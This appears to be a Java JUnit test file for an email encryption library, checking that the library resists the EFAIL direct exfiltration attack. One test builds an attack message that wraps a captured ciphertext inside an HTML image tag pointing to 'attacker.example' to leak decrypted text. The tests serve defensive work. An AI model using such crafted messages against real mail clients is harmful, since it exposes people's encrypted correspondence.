package dev.signet.core.attacks;

import static dev.signet.core.attacks.Mail.encrypted;
import static dev.signet.core.attacks.Mail.entityOf;
import static dev.signet.core.attacks.Mail.html;
import static dev.signet.core.attacks.Mail.message;
import static dev.signet.core.attacks.Mail.multipart;
import static dev.signet.core.attacks.Mail.readAll;
import static dev.signet.core.attacks.Mail.text;
import static org.assertj.core.api.Assertions.assertThat;

import dev.signet.core.DigitalId;
import dev.signet.core.EncryptOptions;
import dev.signet.core.ProblemCode;
import dev.signet.core.Verdict;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * EFAIL (USENIX Security 2018), direct exfiltration: the attacker wraps a captured ciphertext
 * between two HTML parts so that a client renders the plaintext inside an image URL. The
 * decrypted content is never written out beside unencrypted parts.
 */
class EfailDirectExfiltrationTest {
  private static final DigitalId BOB = Mail.person("bob@example.org", "Bob");
  private static final String HEADERS = "From: alice@example.org\r\nTo: bob@example.org\r\n";
  private static final String SECRET = "the launch code is 0000";
  private static final String CAPTURED = entityOf(encrypted(message(HEADERS, text(SECRET)),
      EncryptOptions.defaults(List.of(BOB.certificate()))));

  private static Mail.Read readAsBob(String entity) {
    return readAll(message(HEADERS, entity), BOB, List.of());
  }

  @Test
  void theCapturedMessageOnItsOwnDecrypts() {
    assertThat(readAsBob(CAPTURED).content()).contains(SECRET);
  }

  @Test
  void aCiphertextBetweenTwoHtmlPartsIsPartiallyEncryptedAndItsPlaintextWithheld() {
    String exfiltrating = multipart("mixed", html("<img src=\"http://attacker.example/"),
        CAPTURED, html("\">"));
    Mail.Read read = readAsBob(exfiltrating);
    assertThat(read.report().has(ProblemCode.PARTIALLY_ENCRYPTED)).isTrue();
    assertThat(read.report().verdict()).isEqualTo(Verdict.ERROR);
    assertThat(read.content()).doesNotContain(SECRET).contains("attacker.example");
  }

  @Test
  void aCiphertextInsideAForwardedMessageBesideTextIsPartiallyEncrypted() {
    String bounce = multipart("report", text("Your message could not be delivered."),
        "Content-Type: message/rfc822\r\n\r\n" + message(HEADERS, CAPTURED));
    Mail.Read read = readAsBob(bounce);
    assertThat(read.report().has(ProblemCode.PARTIALLY_ENCRYPTED)).isTrue();
    assertThat(read.content()).doesNotContain(SECRET);
  }

  @Test
  void aCiphertextAsAnAlternativeToAttackerTextIsPartiallyEncrypted() {
    Mail.Read read = readAsBob(multipart("alternative", text("Please reply to this message"), CAPTURED));
    assertThat(read.report().has(ProblemCode.PARTIALLY_ENCRYPTED)).isTrue();
    assertThat(read.content()).doesNotContain(SECRET);
  }

  @Test
  void verifyingWithoutAKeyStillNamesThePartialEncryption() {
    Mail.Read read = Mail.verify(message(HEADERS, multipart("mixed", html("<img src=\""), CAPTURED)), List.of());
    assertThat(read.report().has(ProblemCode.PARTIALLY_ENCRYPTED)).isTrue();
  }
}
